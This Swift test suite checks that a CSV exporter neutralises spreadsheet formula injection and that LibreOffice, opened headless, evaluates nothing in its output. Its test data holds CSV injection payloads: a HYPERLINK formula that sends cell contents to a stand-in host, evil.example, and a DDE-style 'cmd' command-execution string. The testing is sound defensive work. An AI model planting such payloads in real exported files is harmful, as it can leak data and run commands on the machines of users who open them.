import Foundation
import Testing
import GXTestSupport
import GXExport
import GXModel

/// OWASP "CSV Injection": fields a spreadsheet would evaluate are neutralised in `--to csv`,
/// `csv-wide` and `csv-long`, read back exactly by `CSVReader`, and — the test that matters —
/// LibreOffice opening the files evaluates nothing (issue 20 §3).
@Suite struct CSVInjectionTests {
    static let payloads = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
                           "\t=1+1", "\r=1+1", "'=1+1", "''@x", "=1+1\n第二行"]
    /// Kept byte for byte: plain numbers and text that only contains a trigger later.
    static let untouched = ["-1", "+3", "-0.5", "12", "a=1", "'quoted'", "-", "--", ""]

    static func report(agency: String, texts: [String]) throws -> Report {
        var report = try ExportFixtures.report(Fixtures.root.appendingPathComponent("docx/seed000-word.docx"))
        report.agency = agency
        let t = report.tables.firstIndex { $0.key == .requests }!
        for (k, text) in texts.enumerated() {
            report.tables[t].cells[k].text = text
            report.tables[t].cells[k].kind = .text
            report.tables[t].cells[k].number = nil
        }
        return report
    }

    @Test func formulaStartsAreQuotedAndPrefixedAndReadBackExactly() throws {
        let report = try Self.report(agency: Self.payloads[0], texts: Self.payloads + Self.untouched)
        let bytes = CSVWriter.write(report)
        let text = String(decoding: bytes, as: UTF8.self)
        #expect(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\""))
        #expect(text.contains(",\"'@SUM(1+1)*cmd|' /C calc'!A0\","))
        #expect(text.contains(",\"'+1+1\","))
        #expect(text.contains(",\"'\t=1+1\","))
        #expect(text.contains(",\"''=1+1\","), "a printed quote before a trigger gets its own quote, so undoing is exact")
        #expect(text.contains(",-1,text\r\n"), "a plain negative number is left alone")
        #expect(text.contains(",a=1,text\r\n"))
        try CSVExportTests.check(report, bytes)  // parse restores every field
        let raw = String(decoding: CSVWriter.write(report, raw: true), as: UTF8.self)
        #expect(raw.contains(",+1+1,"), "--csv-raw writes fields untouched")
        #expect(try CSVReader.parse(Array(raw.utf8), neutralised: false) == CSVReader.parse(bytes), "both read back to the same fields")
    }

    @Test(arguments: payloads + untouched + ["'", "''", "'-1", "'''=x", "@", "=", "+", "-1.", "-.5", "1-1"])
    func restoreUndoesTheWriterForAnyField(_ field: String) throws {
        let record = CSVWriter.record([field, "x"])
        #expect(try CSVReader.parse(Array(record.utf8)) == [[field, "x"]])
    }

    /// Every CSV we write, opened by LibreOffice (headless, a private profile) and saved as xlsx:
    /// no cell holds a formula, and each payload is there as text. The same report written with
    /// `--csv-raw` does evaluate, which shows the check can fail.
    @Test func libreOfficeEvaluatesNothing() throws {
        let dir = try Fixtures.temporaryFolder("csv-injection")
        defer { try? FileManager.default.removeItem(at: dir) }
        let report = try Self.report(agency: "=HYPERLINK(\"http://evil.example\",\"x\")", texts: Self.payloads)
        try Data(CSVWriter.write(report, excel: true)).write(to: dir.appendingPathComponent("convert.csv"))
        try Data(CSVWriter.write(report, excel: true, raw: true)).write(to: dir.appendingPathComponent("control-raw.csv"))
        // csv-wide and csv-long from the command line, on inputs whose file names and cells are payloads.
        let inputs = dir.appendingPathComponent("in")
        try FileManager.default.createDirectory(at: inputs, withIntermediateDirectories: true)
        try Data(try ExtremeInputTests.page("=1+1", "@SUM(1;2)").utf8).write(to: inputs.appendingPathComponent("=2+2.html"))
        try FileManager.default.copyItem(at: Fixtures.root.appendingPathComponent("html/seed000-lo.html"),
                                         to: inputs.appendingPathComponent("-3+3.html"))
        for format in ["csv-wide", "csv-long"] {
            let run = try CLITests.run(["batch", inputs.path, "-o", dir.appendingPathComponent("\(format).csv").path, "--to", format])
            #expect(run.status == 0 || run.status == 1, "\(format): \(run.stderr)")
        }
        let cells = try Self.openInLibreOffice(dir, ["convert.csv", "control-raw.csv", "csv-wide.csv", "csv-long.csv"])
        for name in ["convert", "csv-wide", "csv-long"] {
            let sheet = try #require(cells[name], "\(name) was converted")
            #expect(sheet.formulas.isEmpty, "\(name): LibreOffice evaluated \(sheet.formulas)")
        }
        #expect(cells["convert"]?.strings.contains("'=HYPERLINK(\"http://evil.example\",\"x\")") == true)
        #expect(cells["convert"]?.strings.contains("'@SUM(1+1)*cmd|' /C calc'!A0") == true)
        #expect(cells["csv-long"]?.strings.contains("'=1+1") == true)
        #expect(cells["csv-wide"]?.strings.contains { $0.hasSuffix("=2+2.html") } == true)
        #expect(cells["control-raw"]?.formulas.isEmpty == false, "the raw control evaluates: the check can fail")
    }

    struct Sheet: Decodable { var formulas: [String]; var strings: [String] }

    /// `soffice --convert-to xlsx` for all files at once, then each workbook's first sheet read
    /// back with Python's zipfile and XML parser: the formulas (`<f>`) and the text cells.
    static func openInLibreOffice(_ dir: URL, _ names: [String]) throws -> [String: Sheet] {
        let profile = dir.appendingPathComponent("lo-profile")
        let soffice = Process()
        soffice.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        soffice.arguments = ["soffice", "-env:UserInstallation=\(profile.absoluteString)", "--headless",
                             "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir", dir.path] + names.map { dir.appendingPathComponent($0).path }
        soffice.standardOutput = FileHandle.nullDevice
        soffice.standardError = FileHandle.nullDevice
        try soffice.run()
        soffice.waitUntilExit()
        #expect(soffice.terminationStatus == 0)
        let script = """
        import json, sys, zipfile, xml.etree.ElementTree as ET
        ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
        out = {}
        for path in sys.argv[1:]:
            z = zipfile.ZipFile(path)
            shared = [''.join(t.text or '' for t in si.iter('{%s}t' % ns['m'])) for si in ET.fromstring(z.read('xl/sharedStrings.xml')).findall('m:si', ns)] if 'xl/sharedStrings.xml' in z.namelist() else []
            sheet = ET.fromstring(z.read('xl/worksheets/sheet1.xml'))
            formulas, strings = [], []
            for c in sheet.iter('{%s}c' % ns['m']):
                f = c.find('m:f', ns)
                if f is not None: formulas.append(c.get('r') + ': ' + (f.text or ''))
                v = c.find('m:v', ns)
                if c.get('t') == 's' and v is not None: strings.append(shared[int(v.text)])
                if c.get('t') == 'inlineStr': strings.append(''.join(t.text or '' for t in c.iter('{%s}t' % ns['m'])))
            out[path.rsplit('/', 1)[-1][:-5]] = {"formulas": formulas, "strings": strings}
        print(json.dumps(out))
        """
        let python = Process()
        python.executableURL = URL(fileURLWithPath: "/usr/bin/env")
        python.arguments = ["python3", "-c", script] + names.map { dir.appendingPathComponent($0.replacingOccurrences(of: ".csv", with: ".xlsx")).path }
        let out = Pipe()
        python.standardOutput = out
        try python.run()
        let data = out.fileHandleForReading.readDataToEndOfFile()
        python.waitUntilExit()
        #expect(python.terminationStatus == 0)
        return try JSONDecoder().decode([String: Sheet].self, from: data)
    }
}
